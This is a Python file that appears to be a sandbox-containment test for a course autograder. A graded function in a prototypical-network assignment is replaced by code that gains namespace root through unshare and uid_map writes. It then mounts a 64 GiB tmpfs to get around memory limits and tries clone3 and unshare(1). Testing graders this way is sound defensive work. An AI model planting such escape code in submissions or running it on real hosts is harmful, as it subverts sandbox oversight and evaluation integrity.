"""Attack a25 (become root in a namespace): squared_euclidean_distances makes itself dumpable again,
unshares a user and a mount namespace, maps itself to root there and mounts a 64 GiB tmpfs (memory
the per-process limit does not count, and root-only kernel code within reach); it also tries
clone3 directly and the unshare(1) tool. It prints "cs330atk LEAK ..." for whatever works and
raises with the errors. Everything else is the correct solution.

Targets: squared_euclidean_distances, protonet_logits, protonet_loss. Expected: exactly 13 / 31;
the targeted tests fail with "raised an exception" ("cs330atk contained"); nothing works.
"""


import torch
import torch.nn.functional as F


def squared_euclidean_distances(
    query_features: torch.Tensor, prototypes: torch.Tensor
) -> torch.Tensor:
    """Return the (Q, N) matrix whose entry (i, c) is ||query_i - prototype_c||^2.

    query_features: (Q, D) float tensor; prototypes: (N, D) float tensor.
    """
    raise PermissionError("cs330atk contained: " + "; ".join(_become_root()))
    diff = query_features.unsqueeze(1) - prototypes.unsqueeze(0)  # (Q, N, D)
    return (diff * diff).sum(dim=-1)


def _become_root():
    import ctypes
    import os
    import subprocess

    libc = ctypes.CDLL(None, use_errno=True)
    report, uid, gid = [], os.getuid(), os.getgid()
    libc.prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE, so that /proc/self/uid_map is ours to write
    if libc.unshare(0x10000000 | 0x00020000) != 0:  # CLONE_NEWUSER | CLONE_NEWNS
        report.append(f"unshare: {os.strerror(ctypes.get_errno())}")
    else:
        print("cs330atk LEAK new user namespace")
        for path, text in (("/proc/self/uid_map", f"0 {uid} 1"), ("/proc/self/setgroups", "deny"),
                           ("/proc/self/gid_map", f"0 {gid} 1")):
            try:
                with open(path, "w") as handle:
                    handle.write(text)
            except OSError as exc:
                report.append(f"{path}: {exc.strerror}")
        os.makedirs("cs330atk-mnt", exist_ok=True)
        if libc.mount(b"none", os.path.abspath("cs330atk-mnt").encode(), b"tmpfs", 0, b"size=64g") == 0:
            written = 0
            try:
                with open("cs330atk-mnt/fill", "wb") as handle:
                    for _ in range(64):
                        handle.write(b"\0" * (1 << 20))
                        written += 1
            except OSError as exc:
                report.append(f"tmpfs write: {exc.strerror}")
            print(f"cs330atk LEAK mounted a tmpfs and wrote {written} MiB to it")
        else:
            report.append(f"mount: {os.strerror(ctypes.get_errno())}")
    result = libc.syscall(435, None, 0)  # clone3 with no arguments
    report.append(f"clone3: {os.strerror(ctypes.get_errno()) if result != 0 else 'returned 0'}")
    try:
        done = subprocess.run(["unshare", "--user", "--map-root-user", "id", "-u"], capture_output=True,
                              text=True, timeout=5)
        if done.returncode == 0:
            print(f"cs330atk LEAK unshare(1) ran as uid {done.stdout.strip()}")
        report.append(f"unshare(1): exit {done.returncode} {done.stderr.strip()[:80]}")
    except (OSError, subprocess.TimeoutExpired) as exc:
        report.append(f"unshare(1): {exc}")
    return report
